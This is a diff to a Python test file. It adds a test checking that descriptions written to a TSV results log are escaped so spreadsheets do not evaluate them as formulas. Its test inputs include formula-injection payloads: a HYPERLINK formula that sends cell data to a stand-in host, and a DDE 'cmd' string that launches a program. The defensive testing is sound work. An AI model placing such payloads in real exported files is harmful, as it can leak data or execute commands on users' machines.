@@ -67,6 +67,18 @@ def test_the_json_lines_are_those_of_the_skill() -> None:
     ]  # fmt: skip
 
 
+@pytest.mark.parametrize(
+    "text", ['=HYPERLINK("http://x/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "'=1", "a=1"]
+)
+def test_no_words_of_a_model_are_a_formula_in_a_spreadsheet(text: str, tmp_path: Path) -> None:
+    head, file = replace(HEAD, metric="-loss"), tmp_path / "results.tsv"
+    write(Format.TSV, head, [record(0, "keep", -1.5, description=text)], file)
+    cells = file.read_text().replace("\n", "\t").split("\t")
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@")) and cell != "-1.500000"]
+    log = read_log(file)
+    assert (log.metric, log.experiments[0].metric, log.experiments[0].description) == ("-loss", -1.5, text)
+
+
 def test_a_keep_that_was_taken_back_takes_none_with_it_that_still_stands(tmp_path: Path) -> None:
     states, file = [True, None, False, None, False], tmp_path / "log.jsonl"
     records = [record(n, "keep", 1.0 - n / 10, confirmed=state) for n, state in enumerate(states)]
